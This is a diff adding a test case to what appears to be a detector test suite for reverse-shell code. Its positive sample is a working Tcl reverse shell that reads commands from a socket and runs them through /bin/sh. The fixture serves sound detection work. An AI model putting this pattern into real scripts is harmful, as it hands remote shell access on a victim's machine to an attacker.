@@ -45,6 +45,14 @@ describeRuleCases('reverse-shell', [
       'import socket, subprocess\ns = socket.create_connection((HOST, 8443))\nbanner = s.recv(64)\nsubprocess.run(["git", "status"])\n',
   },
   {
+    id: 'SG-RSHELL-005',
+    file: 'scripts/rotate.tcl',
+    positive:
+      'set s [socket $h 8443]\nfconfigure $s -buffering line\nwhile {[gets $s line] >= 0} {\n    catch {exec /bin/sh -c $line 2>@1} r\n    puts $s $r\n}\n',
+    negative:
+      'set s [socket $h 8443]\nfconfigure $s -buffering line\nwhile {[gets $s line] >= 0} {\n    puts "got $line"\n}\nexec gzip -f $f.1\n',
+  },
+  {
     id: 'SG-RSHELL-004',
     file: 'scripts/reload.js',
     positive:
